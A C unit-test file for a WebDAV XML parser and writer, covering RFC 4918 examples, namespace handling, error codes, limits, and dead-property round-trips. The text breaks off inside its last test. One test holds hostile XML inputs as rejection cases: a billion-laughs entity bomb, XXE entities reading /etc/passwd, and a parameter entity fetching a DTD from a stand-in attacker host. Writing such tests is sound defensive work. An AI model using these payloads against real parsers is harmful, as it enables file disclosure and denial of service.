/*
 * test_davxml.c - the XML of WebDAV: RFC 4918 request bodies parse into
 * (namespace, name) trees whatever the prefixes; malformed bodies get 400
 * with a reason; DTDs are refused (RFC 4918 20.6); limits give 413; a
 * dead property value survives serialisation with its namespaces and
 * xml:lang (4.3); the writer's output is namespace-well-formed.
 */
#include <criterion/criterion.h>
#include <errno.h>
#include <expat.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "davxml.h"

#define BOX "http://ns.example.com/boxschema/"
#define Z3950 "http://ns.example.com/standards/z39.50/"

static tp_dav_xml *parse_ok(const char *s)
{
    tp_dav_xml *doc = NULL;
    char why[256];
    int rc = tp_dav_xml_parse(s, strlen(s), &doc, why, sizeof(why));
    cr_assert_eq(rc, 0, "parse failed with %d: %s", rc, why);
    cr_assert_not_null(doc);
    return doc;
}

static int parse_fail(const char *s, size_t len, char *why, size_t cap)
{
    tp_dav_xml *doc = (tp_dav_xml *)1;
    int rc = tp_dav_xml_parse(s, len, &doc, why, cap);
    cr_assert_null(doc, "no document on failure");
    return rc;
}

static bool is_lang(const tp_dav_attr *x)
{
    return !strcmp(x->ns, TP_DAV_XML_NS) && !strcmp(x->name, "lang");
}

/* Attributes other than xml:lang, which is compared as the language in
 * scope: a fragment repeats an inherited one on its root. */
static size_t plain_attrs(const tp_dav_node *n)
{
    size_t k = 0;
    for (size_t i = 0; i < tp_dav_node_nattrs(n); i++)
        k += !is_lang(tp_dav_node_attr(n, i));
    return k;
}

/* Same elements, names, text, attributes, language and order. */
static bool same_tree(const tp_dav_node *a, const tp_dav_node *b)
{
    if (!a || !b)
        return a == b;
    if (strcmp(tp_dav_node_ns(a), tp_dav_node_ns(b))
        || strcmp(tp_dav_node_name(a), tp_dav_node_name(b))
        || strcmp(tp_dav_node_text(a), tp_dav_node_text(b))
        || plain_attrs(a) != plain_attrs(b))
        return false;
    const char *la = tp_dav_node_lang(a), *lb = tp_dav_node_lang(b);
    if ((la == NULL) != (lb == NULL) || (la && strcmp(la, lb)))
        return false;
    for (size_t i = 0; i < tp_dav_node_nattrs(a); i++) {
        const tp_dav_attr *x = tp_dav_node_attr(a, i);
        const char *v = tp_dav_node_attr_value(b, x->ns, x->name);
        if (!v || strcmp(v, x->value))
            return false;
    }
    const tp_dav_node *ca = tp_dav_node_first(a), *cb = tp_dav_node_first(b);
    for (; ca && cb; ca = tp_dav_node_next(ca), cb = tp_dav_node_next(cb))
        if (!same_tree(ca, cb))
            return false;
    return ca == NULL && cb == NULL;
}

/* ---- RFC 4918 examples ------------------------------------------- */

Test(davxml, rfc4918_9_1_3_named_properties)
{
    tp_dav_xml *doc = parse_ok(
        "<?xml version=\"1.0\" encoding=\"utf-8\" ?>\n"
        "<D:propfind xmlns:D=\"DAV:\">\n"
        "  <D:prop xmlns:R=\"http://ns.example.com/boxschema/\">\n"
        "    <R:bigbox/>\n    <R:author/>\n    <R:DingALing/>\n"
        "    <R:Random/>\n  </D:prop>\n</D:propfind>\n");
    const tp_dav_node *root = tp_dav_xml_root(doc);
    cr_assert(tp_dav_node_is(root, TP_DAV_NS, "propfind"));
    cr_assert_null(tp_dav_node_parent(root));
    cr_assert_str_eq(tp_dav_node_text(root), "", "indentation is not text");
    const tp_dav_node *prop = tp_dav_node_child(root, TP_DAV_NS, "prop");
    cr_assert_not_null(prop);
    cr_assert_eq(tp_dav_node_parent(prop), root);
    cr_assert_eq(tp_dav_node_count(prop), 4);
    const char *names[] = { "bigbox", "author", "DingALing", "Random" };
    size_t i = 0;
    for (const tp_dav_node *c = tp_dav_node_first(prop); c;
         c = tp_dav_node_next(c), i++) {
        cr_assert_str_eq(tp_dav_node_ns(c), BOX);
        cr_assert_str_eq(tp_dav_node_name(c), names[i]);
        cr_assert_eq(tp_dav_node_count(c), 0);
    }
    cr_assert_eq(i, 4);
    cr_assert_null(tp_dav_node_child(root, TP_DAV_NS, "allprop"));
    cr_assert_null(tp_dav_node_child(prop, TP_DAV_NS, "bigbox"),
                   "the namespace is part of the name");
    tp_dav_xml_free(doc);
}

Test(davxml, rfc4918_9_1_4_propname)
{
    tp_dav_xml *doc = parse_ok(
        "<?xml version=\"1.0\" encoding=\"utf-8\" ?>\n"
        "<propfind xmlns=\"DAV:\">\n  <propname/>\n</propfind>\n");
    const tp_dav_node *root = tp_dav_xml_root(doc);
    cr_assert(tp_dav_node_is(root, "DAV:", "propfind"));
    cr_assert_eq(tp_dav_node_count(root), 1);
    cr_assert(tp_dav_node_is(tp_dav_node_first(root), "DAV:", "propname"));
    tp_dav_xml_free(doc);
}

Test(davxml, rfc4918_9_1_5_allprop)
{
    tp_dav_xml *doc = parse_ok(
        "<?xml version=\"1.0\" encoding=\"utf-8\" ?>\n"
        "<D:propfind xmlns:D=\"DAV:\">\n  <D:allprop/>\n</D:propfind>\n");
    const tp_dav_node *root = tp_dav_xml_root(doc);
    cr_assert(tp_dav_node_is(root, "DAV:", "propfind"));
    cr_assert_not_null(tp_dav_node_child(root, "DAV:", "allprop"));
    cr_assert_eq(tp_dav_node_count(root), 1);
    tp_dav_xml_free(doc);
}

Test(davxml, rfc4918_9_2_2_proppatch_other_namespace)
{
    tp_dav_xml *doc = parse_ok(
        "<?xml version=\"1.0\" encoding=\"utf-8\" ?>\n"
        "<D:propertyupdate xmlns:D=\"DAV:\"\n"
        "        xmlns:Z=\"http://ns.example.com/standards/z39.50/\">\n"
        "  <D:set>\n    <D:prop>\n      <Z:Authors>\n"
        "        <Z:Author>Jim Whitehead</Z:Author>\n"
        "        <Z:Author>Roy Fielding</Z:Author>\n"
        "      </Z:Authors>\n    </D:prop>\n  </D:set>\n"
        "  <D:remove>\n    <D:prop><Z:Copyright-Owner/></D:prop>\n"
        "  </D:remove>\n</D:propertyupdate>\n");
    const tp_dav_node *root = tp_dav_xml_root(doc);
    cr_assert(tp_dav_node_is(root, TP_DAV_NS, "propertyupdate"));
    /* set and remove are processed in document order (RFC 4918 9.2) */
    const tp_dav_node *set = tp_dav_node_first(root);
    cr_assert(tp_dav_node_is(set, TP_DAV_NS, "set"));
    const tp_dav_node *rm = tp_dav_node_next(set);
    cr_assert(tp_dav_node_is(rm, TP_DAV_NS, "remove"));
    cr_assert_null(tp_dav_node_next(rm));
    const tp_dav_node *authors = tp_dav_node_first(
        tp_dav_node_child(set, TP_DAV_NS, "prop"));
    cr_assert(tp_dav_node_is(authors, Z3950, "Authors"));
    const tp_dav_node *a1 = tp_dav_node_first(authors);
    const tp_dav_node *a2 = tp_dav_node_next(a1);
    cr_assert(tp_dav_node_is(a1, Z3950, "Author"));
    cr_assert_str_eq(tp_dav_node_text(a1), "Jim Whitehead");
    cr_assert_str_eq(tp_dav_node_text(a2), "Roy Fielding");
    cr_assert(tp_dav_node_is(
        tp_dav_node_first(tp_dav_node_child(rm, TP_DAV_NS, "prop")),
        Z3950, "Copyright-Owner"));
    tp_dav_xml_free(doc);
}

Test(davxml, rfc4918_9_10_7_lockinfo)
{
    tp_dav_xml *doc = parse_ok(
        "<?xml version=\"1.0\" encoding=\"utf-8\" ?>\n"
        "<D:lockinfo xmlns:D='DAV:'>\n"
        "  <D:lockscope><D:exclusive/></D:lockscope>\n"
        "  <D:locktype><D:write/></D:locktype>\n"
        "  <D:owner>\n"
        "    <D:href>http://example.org/~ejw/contact.html</D:href>\n"
        "  </D:owner>\n</D:lockinfo>\n");
    const tp_dav_node *li = tp_dav_xml_root(doc);
    cr_assert(tp_dav_node_is(li, TP_DAV_NS, "lockinfo"));
    cr_assert_not_null(tp_dav_node_child(
        tp_dav_node_child(li, TP_DAV_NS, "lockscope"), TP_DAV_NS,
        "exclusive"));
    cr_assert_not_null(tp_dav_node_child(
        tp_dav_node_child(li, TP_DAV_NS, "locktype"), TP_DAV_NS, "write"));
    const tp_dav_node *owner = tp_dav_node_child(li, TP_DAV_NS, "owner");
    cr_assert_str_eq(tp_dav_node_text(tp_dav_node_child(owner, TP_DAV_NS,
                                                        "href")),
                     "http://example.org/~ejw/contact.html");

    /* the owner is returned verbatim in lockdiscovery (RFC 4918 14.17) */
    char *xml;
    size_t len;
    cr_assert_eq(tp_dav_node_to_xml(owner, &xml, &len), 0);
    tp_dav_xml *again = parse_ok(xml);
    cr_assert(same_tree(owner, tp_dav_xml_root(again)), "%s", xml);
    tp_dav_xml_free(again);
    free(xml);
    tp_dav_xml_free(doc);
}

/* ---- names are (namespace, local name), never prefixes ------------ */

Test(davxml, prefixes_do_not_matter)
{
    const char *spellings[] = {
        "<D:propfind xmlns:D='DAV:'><D:prop><R:x xmlns:R='urn:r'/>"
        "</D:prop></D:propfind>",
        "<propfind xmlns='DAV:'><prop><x xmlns='urn:r'/></prop></propfind>",
        "<a:propfind xmlns:a='DAV:' xmlns:b='urn:r'><a:prop><b:x/></a:prop>"
        "</a:propfind>",
        "<D:propfind xmlns:D='DAV:' xmlns='urn:r'><D:prop><x/></D:prop>"
        "</D:propfind>",
    };
    tp_dav_xml *first = parse_ok(spellings[0]);
    for (size_t i = 1; i < sizeof(spellings) / sizeof(*spellings); i++) {
        tp_dav_xml *doc = parse_ok(spellings[i]);
        cr_assert(same_tree(tp_dav_xml_root(first), tp_dav_xml_root(doc)),
                  "spelling %zu", i);
        const tp_dav_node *x = tp_dav_node_first(
            tp_dav_node_child(tp_dav_xml_root(doc), "DAV:", "prop"));
        cr_assert(tp_dav_node_is(x, "urn:r", "x"));
        tp_dav_xml_free(doc);
    }
    tp_dav_xml_free(first);

    /* an element in no namespace is not a DAV: element */
    tp_dav_xml *doc = parse_ok("<propfind><prop/></propfind>");
    cr_assert(!tp_dav_node_is(tp_dav_xml_root(doc), TP_DAV_NS, "propfind"));
    cr_assert(tp_dav_node_is(tp_dav_xml_root(doc), "", "propfind"));
    cr_assert(tp_dav_node_is(tp_dav_xml_root(doc), NULL, "propfind"));
    tp_dav_xml_free(doc);
}

Test(davxml, text_attributes_and_lang)
{
    tp_dav_xml *doc = parse_ok(
        "<D:prop xmlns:D='DAV:' xml:lang='en'>\n"
        "  <D:displayname> a &amp; b <![CDATA[<c>]]>&#x263A;</D:displayname>\n"
        "  <p xmlns='urn:x' q='1' xmlns:y='urn:y' y:q=' two\n'>"
        "Hello <b xml:lang='de'>gro&#xDF;e</b> <i>world</i></p>\n"
        "</D:prop>");
    const tp_dav_node *root = tp_dav_xml_root(doc);
    cr_assert_str_eq(tp_dav_node_lang(root), "en");
    const tp_dav_node *dn = tp_dav_node_child(root, TP_DAV_NS, "displayname");
    cr_assert_str_eq(tp_dav_node_text(dn), " a & b <c>\xe2\x98\xba",
                     "text is kept exactly, entities resolved");
    cr_assert_str_eq(tp_dav_node_lang(dn), "en", "xml:lang is inherited");
    const tp_dav_node *p = tp_dav_node_child(root, "urn:x", "p");
    cr_assert_eq(tp_dav_node_nattrs(p), 2, "xmlns declarations are not "
                 "attributes");
    cr_assert_str_eq(tp_dav_node_attr_value(p, "", "q"), "1");
    /* attribute-value normalisation turns the newline into a space */
    cr_assert_str_eq(tp_dav_node_attr_value(p, "urn:y", "q"), " two ");
    cr_assert_null(tp_dav_node_attr_value(p, "urn:x", "q"),
                   "the default namespace does not apply to attributes");
    cr_assert_str_eq(tp_dav_node_text(p), "Hello  ",
                     "mixed content keeps its white space");
    const tp_dav_node *b = tp_dav_node_first(p);
    cr_assert(tp_dav_node_is(b, "urn:x", "b"));
    cr_assert_str_eq(tp_dav_node_lang(b), "de");
    cr_assert_str_eq(tp_dav_node_text(b), "gro\xc3\x9f" "e");
    cr_assert_str_eq(tp_dav_node_attr_value(b, TP_DAV_XML_NS, "lang"), "de");
    tp_dav_xml_free(doc);
}

/* ---- malformed bodies: 400 with line and column ------------------- */

Test(davxml, malformed_is_400_with_a_reason)
{
    static const struct {
        const char *body, *expect;
    } cases[] = {
        { "<D:propfind xmlns:D='DAV:'><D:prop>", "line 1" },
        { "<a>\n<b></a>", "line 2" },
        { "<a>\xff\xfe</a>", "invalid token" },
        { "<a>\xc3\x28</a>", "invalid token" },
        { "<a/><b/>", "junk after document element" },
        { "<a/>text", "junk after document element" },
        { "<D:propfind/>", "unbound prefix" },
        { "<a x='1' x='2'/>", "duplicate attribute" },
        { "<a>&undefined;</a>", "undefined entity" },
        { "   ", "no element found" },
        { "<?xml version='1.0' encoding='x-unknown'?><a/>", "encoding" },
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
        char why[256];
        int rc = parse_fail(cases[i].body, strlen(cases[i].body), why,
                            sizeof(why));
        cr_assert_eq(rc, 400, "case %zu: %d", i, rc);
        cr_assert(strstr(why, cases[i].expect), "case %zu: why = \"%s\"", i,
                  why);
    }
    char why[64];
    cr_assert_eq(parse_fail("", 0, why, sizeof(why)), 400,
                 "an empty body is not a document");
    cr_assert(strstr(why, "empty"));
    /* a NUL byte in the middle is not XML */
    cr_assert_eq(parse_fail("<a>\0</a>", 8, why, sizeof(why)), 400);
    /* a tiny buffer for the reason is cut, not overrun */
    char tiny[8];
    memset(tiny, 'X', sizeof(tiny));
    cr_assert_eq(parse_fail("<a>", 3, tiny, 5), 400);
    cr_assert_eq(strlen(tiny), 4);
    cr_assert_eq(tiny[5], 'X');
    cr_assert_eq(parse_fail("<a>", 3, NULL, 0), 400, "why is optional");
}

/* ---- RFC 4918 20.6: no DTDs, so no XXE and no entity bombs -------- */

Test(davxml, dtds_are_refused)
{
    static const char *attacks[] = {
        /* billion laughs */
        "<?xml version='1.0'?>\n<!DOCTYPE lolz [\n"
        " <!ENTITY lol 'lol'>\n"
        " <!ENTITY lol2 '&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;'>\n"
        " <!ENTITY lol3 '&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;'>\n"
        "]>\n<lolz>&lol3;</lolz>",
        /* XXE */
        "<?xml version='1.0'?>\n<!DOCTYPE foo [\n"
        " <!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>\n"
        "<D:propfind xmlns:D='DAV:'><D:prop><D:x>&xxe;</D:x></D:prop>"
        "</D:propfind>",
        /* parameter entity fetching an external DTD */
        "<!DOCTYPE foo [<!ENTITY % ext SYSTEM 'http://attacker.example/x.dtd'>"
        " %ext;]><foo/>",
        /* external DTD subset */
        "<!DOCTYPE foo SYSTEM 'file:///etc/passwd'><foo/>",
        /* even a harmless one */
        "<!DOCTYPE propfind><propfind xmlns='DAV:'><allprop/></propfind>",
    };
    for (size_t i = 0; i < sizeof(attacks) / sizeof(*attacks); i++) {
        char why[256];
        int rc = parse_fail(attacks[i], strlen(attacks[i]), why,
                            sizeof(why));
        cr_assert_eq(rc, 400, "attack %zu: %d", i, rc);
        cr_assert(strstr(why, "DTDs are not accepted"), "attack %zu: %s", i,
                  why);
    }
}

/* ---- limits: 413 -------------------------------------------------- */

static char *nested(unsigned depth)
{
    char *s = malloc(depth * 7 + 1), *w = s;
    for (unsigned i = 0; i < depth; i++)
        w += sprintf(w, "<a>");
    for (unsigned i = 0; i < depth; i++)
        w += sprintf(w, "</a>");
    return s;
}

Test(davxml, limits_give_413)
{
    char why[256];
    /* size: refused before a byte is parsed */
    size_t big = TP_DAV_XML_MAX_BYTES + 1;
    char *s = malloc(big);
    memset(s, ' ', big);
    memcpy(s, "<a>", 3);
    memcpy(s + big - 4, "</a>", 4);
    cr_assert_eq(parse_fail(s, big, why, sizeof(why)), 413);
    cr_assert(strstr(why, "larger than"), "%s", why);
    free(s);

    /* depth: the limit itself is fine, one more is not */
    s = nested(TP_DAV_XML_MAX_DEPTH);
    tp_dav_xml *doc = parse_ok(s);
    tp_dav_xml_free(doc);
    free(s);
    s = nested(TP_DAV_XML_MAX_DEPTH + 1);
    cr_assert_eq(parse_fail(s, strlen(s), why, sizeof(why)), 413);
    cr_assert(strstr(why, "nested deeper"), "%s", why);
    free(s);

    /* element count */
    size_t n = TP_DAV_XML_MAX_ELEMENTS; /* root + n children = n + 1 */
    s = malloc(n * 4 + 16);
    char *w = s + sprintf(s, "<r>");
    for (size_t i = 0; i < n; i++)
        w += sprintf(w, "<a/>");
    sprintf(w, "</r>");
    cr_assert_lt(strlen(s), TP_DAV_XML_MAX_BYTES);
    cr_assert_eq(parse_fail(s, strlen(s), why, sizeof(why)), 413);
    cr_assert(strstr(why, "elements"), "%s", why);
    s[3 + (n - 1) * 4] = '\0'; /* n - 1 children: exactly at the limit */
    strcat(s, "</r>");
    doc = parse_ok(s);
    cr_assert_eq(tp_dav_node_count(tp_dav_xml_root(doc)), n - 1);
    tp_dav_xml_free(doc);
    free(s);

    /* name length */
    char name[TP_DAV_XML_MAX_NAME + 2];
    memset(name, 'n', sizeof(name) - 1);
    name[sizeof(name) - 1] = '\0';
    char body[2 * sizeof(name) + 16];
    snprintf(body, sizeof(body), "<%s/>", name);
    cr_assert_eq(parse_fail(body, strlen(body), why, sizeof(why)), 413);
    name[sizeof(name) - 2] = '\0'; /* exactly the limit */
    snprintf(body, sizeof(body), "<%s/>", name);
    doc = parse_ok(body);
    tp_dav_xml_free(doc);

    /* attributes per element */
    char attrs[4096];
    w = attrs + sprintf(attrs, "<a");
    for (unsigned i = 0; i <= TP_DAV_XML_MAX_ATTRS; i++)
        w += sprintf(w, " a%u='x'", i);
    sprintf(w, "/>");
    cr_assert_eq(parse_fail(attrs, strlen(attrs), why, sizeof(why)), 413);
    cr_assert(strstr(why, "attributes"), "%s", why);
}

/* ---- dead property values round-trip (RFC 4918 4.3, 4.4) --------- */

static const char *dead_prop =
    "<D:propertyupdate xmlns:D='DAV:' xmlns:Z='urn:z&amp;\"q\"'"
    " xml:lang='en-GB'><D:set><D:prop>"
    "<Z:Authors xmlns:W='urn:w' W:role='&lt;editor&gt; &amp; \"x\"'>\n"
    "  <Z:Author>Jim &amp; &lt;Roy&gt; ]]&gt; &#13;</Z:Author>\n"
    "  <Author xmlns=''>no namespace</Author>\n"
    "  <W:note xml:lang='fr'>d\xc3\xa9j\xc3\xa0 <W:b>vu</W:b>!</W:note>\n"
    "  <empty xmlns='urn:default'/>\n"
    "</Z:Authors>"
    "</D:prop></D:set></D:propertyupdate>";

Test(davxml, dead_property_round_trip)
{
    tp_dav_xml *doc = parse_ok(dead_prop);
    const tp_dav_node *value = tp_dav_node_first(tp_dav_node_child(
        tp_dav_node_child(tp_dav_xml_root(doc), TP_DAV_NS, "set"),
        TP_DAV_NS, "prop"));
    cr_assert(tp_dav_node_is(value, "urn:z&\"q\"", "Authors"));
    cr_assert_str_eq(tp_dav_node_text(tp_dav_node_first(value)),
                     "Jim & <Roy> ]]> \r");

    char *xml;
    size_t len;
    cr_assert_eq(tp_dav_node_to_xml(value, &xml, &len), 0);
    cr_assert_eq(strlen(xml), len);
    cr_assert_null(strstr(xml, "<?xml"), "a fragment has no declaration");
    /* the fragment stands alone: every namespace declared inside it */
    tp_dav_xml *again = parse_ok(xml);
    const tp_dav_node *v2 = tp_dav_xml_root(again);
    cr_assert(same_tree(value, v2), "%s", xml);
    /* the inherited xml:lang travels with the value */
    cr_assert_str_eq(tp_dav_node_lang(v2), "en-GB", "%s", xml);
    cr_assert_str_eq(tp_dav_node_text(tp_dav_node_child(v2, "", "Author")),
                     "no namespace");
    const tp_dav_node *note = tp_dav_node_child(v2, "urn:w", "note");
    cr_assert_str_eq(tp_dav_node_lang(note), "fr");
    cr_assert_str_eq(tp_dav_node_text(note), "d\xc3\xa9j\xc3\xa0 !");

    /* stable: serialising the copy gives the same bytes */
    char *xml2;
    size_t len2;
    cr_assert_eq(tp_dav_node_to_xml(v2, &xml2, &len2), 0);
    cr_assert_str_eq(xml, xml2);
    free(xml2);

    /* PROPFIND emits it again inside a multistatus; a reader finds the
     * same value there (RFC 4918 9.1) */
    tp_dav_out *o = tp_dav_out_new(1 << 20);
    tp_dav_out_open(o, TP_DAV_NS, "multistatus");
    tp_dav_out_open(o, TP_DAV_NS, "response");
    tp_dav_out_elem(o, TP_DAV_NS, "href", "/file");
    tp_dav_out_open(o, TP_DAV_NS, "propstat");
    tp_dav_out_open(o, TP_DAV_NS, "prop");
    tp_dav_out_raw(o, xml, len);
    tp_dav_out_close(o);
    tp_dav_out_elem(o, TP_DAV_NS, "status", "HTTP/1.1 200 OK");
    tp_dav_out_close(o);
    tp_dav_out_close(o);
    tp_dav_out_close(o);
    const char *out;
    size_t out_len;
    cr_assert_eq(tp_dav_out_finish(o, &out, &out_len), 0);
    tp_dav_xml *ms = parse_ok(out);
    const tp_dav_node *v3 = tp_dav_node_first(tp_dav_node_child(
        tp_dav_node_child(
            tp_dav_node_child(tp_dav_xml_root(ms), TP_DAV_NS, "response"),
            TP_DAV_NS, "propstat"),
        TP_DAV_NS, "prop"));
    cr_assert(same_tree(value, v3), "%s", out);
    tp_dav_xml_free(ms);
    tp_dav_out_free(o);

    tp_dav_xml_free(again);
    free(xml);
    tp_dav_xml_free(doc);
}

/* ---- the writer, checked by expat itself -------------------------- */

typedef struct events {
    char s[4096];
    size_t n;
} events;

static void ev_add(events *e, const char *s, size_t len)
{
    cr_assert_lt(e->n + len, sizeof(e->s));
    memcpy(e->s + e->n, s, len);
    e->n += len;
    e->s[e->n] = '\0';
}

static void ev_start(void *ud, const XML_Char *name, const XML_Char **atts)
{
    events *e = ud;
    ev_add(e, "(", 1);
    ev_add(e, name, strlen(name));
    for (size_t i = 0; atts[i]; i += 2) {
        ev_add(e, " ", 1);
        ev_add(e, atts[i], strlen(atts[i]));
        ev_add(e, "=", 1);
        ev_add(e, atts[i + 1], strlen(atts[i + 1]));
    }
    ev_add(e, ")", 1);
}

static void ev_end(void *ud, const XML_Char *name)
{
    (void)name;
    ev_add(ud, "/", 1);
}

static void ev_text(void *ud, const XML_Char *s, int len)
{
    ev_add(ud, s, (size_t)len);
}

/* Parses with expat in namespace mode ('|' between URI and name). */
static void expat_events(const char *xml, size_t len, events *e)
{
    XML_Parser p = XML_ParserCreateNS(NULL, '|');
    e->n = 0;
    e->s[0] = '\0';
    XML_SetUserData(p, e);
    XML_SetElementHandler(p, ev_start, ev_end);
    XML_SetCharacterDataHandler(p, ev_text);
    enum XML_Status st = XML_Parse(p, xml, (int)len, XML_TRUE);
    cr_assert_eq(st, XML_STATUS_OK, "expat: %s at %lu:%lu in\n%s",
                 XML_ErrorString(XML_GetErrorCode(p)),
                 (unsigned long)XML_GetCurrentLineNumber(p),
                 (unsigned long)XML_GetCurrentColumnNumber(p), xml);
    XML_ParserFree(p);
}

static size_t count(const char *hay, const char *needle)
{
    size_t k = 0;
    for (const char *p = hay; (p = strstr(p, needle)); p++)
        k++;
    return k;
}

Test(davxml, writer_namespaces_and_escaping)
{
    tp_dav_out *o = tp_dav_out_new(1 << 16);
    cr_assert_eq(tp_dav_out_open(o, TP_DAV_NS, "multistatus"), 0);
    tp_dav_out_open(o, TP_DAV_NS, "response");
    tp_dav_out_elem(o, TP_DAV_NS, "href", "/a&b/<c>");
    tp_dav_out_open(o, TP_DAV_NS, "prop");
    tp_dav_out_elem(o, "urn:a\"&<b>", "x", "1 ]]> 2");
    tp_dav_out_elem(o, "urn:a\"&<b>", "y", NULL);
    tp_dav_out_open(o, "", "plain");
    cr_assert_eq(tp_dav_out_attr(o, "", "k", "say \"hi\"\tand\n<bye>"), 0);
    cr_assert_eq(tp_dav_out_attr(o, "urn:attr", "k", "v"), 0);
    cr_assert_eq(tp_dav_out_attr(o, TP_DAV_XML_NS, "lang", "en"), 0);
    tp_dav_out_text(o, "line\r\n", 6);
    tp_dav_out_close(o);
    tp_dav_out_close(o);
    tp_dav_out_close(o);
    /* a namespace used again in a later sibling is declared again */
    tp_dav_out_elem(o, "urn:a\"&<b>", "z", "");
    tp_dav_out_close(o);
    const char *xml;
    size_t len;
    cr_assert_eq(tp_dav_out_finish(o, &xml, &len), 0);
    cr_assert_eq(strlen(xml), len);

    const char *decl = "<?xml version=\"1.0\" encoding=\"utf-8\"?>";
    cr_assert_eq(strncmp(xml, decl, strlen(decl)), 0, "%s", xml);
    cr_assert_eq(count(xml, "xmlns:D=\"DAV:\""), 1, "D: once: %s", xml);
    cr_assert_neq(strstr(xml, "<D:multistatus xmlns:D=\"DAV:\">"), NULL,
                  "%s", xml);
    cr_assert_null(strstr(xml, "]]>"), "%s", xml);

    events e;
    expat_events(xml, len, &e);
    cr_assert_str_eq(
        e.s,
        "(DAV:|multistatus)"
        "(DAV:|response)"
        "(DAV:|href)/a&b/<c>/"
        "(DAV:|prop)"
        "(urn:a\"&<b>|x)1 ]]> 2/"
        "(urn:a\"&<b>|y)/"
        "(plain k=say \"hi\"\tand\n<bye> urn:attr|k=v "
        "http://www.w3.org/XML/1998/namespace|lang=en)line\r\n/"
        "//"
        "(urn:a\"&<b>|z)/"
        "/",
        "%s\n%s", e.s, xml);

    /* and our own reader agrees */
    tp_dav_xml *doc = parse_ok(xml);
    const tp_dav_node *plain = tp_dav_node_child(
        tp_dav_node_child(tp_dav_node_child(tp_dav_xml_root(doc), TP_DAV_NS,
                                            "response"),
                          TP_DAV_NS, "prop"),
        "", "plain");
    cr_assert_not_null(plain);
    cr_assert_str_eq(tp_dav_node_lang(plain), "en");
    tp_dav_xml_free(doc);
    tp_dav_out_free(o);
}

Test(davxml, writer_root_outside_dav_and_fragments)
{
    /* a root in another namespace still binds D: there */
    tp_dav_out *o = tp_dav_out_new(4096);
    tp_dav_out_open(o, "urn:other", "root");
    tp_dav_out_elem(o, TP_DAV_NS, "href", "/");
    tp_dav_out_close(o);
    const char *xml;
    size_t len;
    cr_assert_eq(tp_dav_out_finish(o, &xml, &len), 0);
    events e;
    expat_events(xml, len, &e);
    cr_assert_str_eq(e.s, "(urn:other|root)(DAV:|href)///");
    cr_assert_eq(count(xml, "xmlns:D="), 1, "%s", xml);
    tp_dav_out_free(o);

    /* a fragment with an unqualified element undeclares the default
     * namespace, so it is correct wherever it is inserted */
    o = tp_dav_out_new_fragment(4096);
    tp_dav_out_open(o, "", "a");
    tp_dav_out_elem(o, "", "b", "t");
    tp_dav_out_close(o);
    cr_assert_eq(tp_dav_out_finish(o, &xml, &len), 0);
    cr_assert_str_eq(xml, "<a xmlns=\"\"><b>t</b></a>");
    char wrapped[256];
    snprintf(wrapped, sizeof(wrapped), "<w xmlns='urn:w'>%s</w>", xml);
    expat_events(wrapped, strlen(wrapped), &e);
    cr_assert_str_eq(e.s, "(urn:w|w)(a)(b)t///");
    tp_dav_out_free(o);
}

Test(davxml, writer_errors_are_values_and_stick)
{
    tp_dav_out *o = tp_dav_out_new(4096);
    cr_assert_eq(tp_dav_out_open(o, TP_DAV_NS, "bad name"), -EINVAL);
    cr_assert_eq(tp_dav_out_open(o, TP_DAV_NS, "fine"), -EINVAL,
                 "the first error sticks");
    const char *xml;
    size_t len;
    cr_assert_eq(tp_dav_out_finish(o, &xml, &len), -EINVAL);
    tp_dav_out_free(o);

    static const char *bad_names[] = { "", "a:b", "1a", "-a", "a b", "a<",
                                       "a\"" };
    for (size_t i = 0; i < sizeof(bad_names) / sizeof(*bad_names); i++) {
        o = tp_dav_out_new(4096);
        cr_assert_eq(tp_dav_out_open(o, "", bad_names[i]), -EINVAL, "%zu", i);
        tp_dav_out_free(o);
    }

    /* XML 1.0 has no way to carry control characters or bad UTF-8 */
    o = tp_dav_out_new(4096);
    tp_dav_out_open(o, TP_DAV_NS, "a");
    cr_assert_eq(tp_dav_out_text(o, "x\x01y", 3), -EILSEQ);
    tp_dav_out_free(o);
    o = tp_dav_out_new(4096);
    tp_dav_out_open(o, TP_DAV_NS, "a");
    cr_assert_eq(tp_dav_out_text(o, "\xc3(", 2), -EILSEQ);
    tp_dav_out_free(o);
    o = tp_dav_out_new(4096);
    tp_dav_out_open(o, TP_DAV_NS, "a");
    cr_assert_eq(tp_dav_out_text(o, "\xed\xa0\x80", 3), -EILSEQ,
                 "surrogates are not characters");
    tp_dav_out_free(o);
    o = tp_dav_out_new(4096);
    cr_assert_eq(tp_dav_out_open(o, "urn:\x02", "a"), -EILSEQ);
    tp_dav_out_free(o);
    o = tp_dav_out_new(4096);
    cr_assert_eq(tp_dav_out_open(o, "http://www.w3.org/2000/xmlns/", "a"),
                 -EINVAL);
    tp_dav_out_free(o);

    /* structure */
    o = tp_dav_out_new(4096);
    cr_assert_eq(tp_dav_out_close(o), -EINVAL, "nothing open");
    tp_dav_out_free(o);
    o = tp_dav_out_new(4096);
    tp_dav_out_open(o, TP_DAV_NS, "a");
    tp_dav_out_text(o, "x", 1);
    cr_assert_eq(tp_dav_out_attr(o, "", "k", "v"), -EINVAL,
                 "attributes only in the start tag");
    tp_dav_out_free(o);
    o = tp_dav_out_new(4096);
    tp_dav_out_open(o, TP_DAV_NS, "a");
    cr_assert_eq(tp_dav_out_attr(o, "", "xmlns", "urn:evil"), -EINVAL);
    tp_dav_out_free(o);
    o = tp_dav_out_new(4096);
    tp_dav_out_open(o, TP_DAV_NS, "a");
    cr_assert_eq(tp_dav_out_finish(o, &xml, &len), -EINVAL, "unclosed");
    tp_dav_out_free(o);
    o = tp_dav_out_new(4096);
    tp_dav_out_elem(o, TP_DAV_NS, "a", NULL);
    cr_assert_eq(tp_dav_out_open(o, TP_DAV_NS, "b"), -EINVAL,
                 "one root per document");
    tp_dav_out_free(o);
    o = tp_dav_out_new(4096);
    cr_assert_eq(tp_dav_out_finish(o, &xml, &len), -EINVAL, "no root");
    tp_dav_out_free(o);

    /* bounded growth */
    o = tp_dav_out_new(100);
    tp_dav_out_open(o, TP_DAV_NS, "multistatus");
    int rc = 0;
    for (int i = 0; i < 100 && rc == 0; i++)
        rc = tp_dav_out_elem(o, TP_DAV_NS, "href", "/some/path");
    cr_assert_eq(rc, -ENOMEM);
    tp_dav_out_close(o);
    cr_assert_eq(tp_dav_out_finish(o, &xml, &len), -ENOMEM);
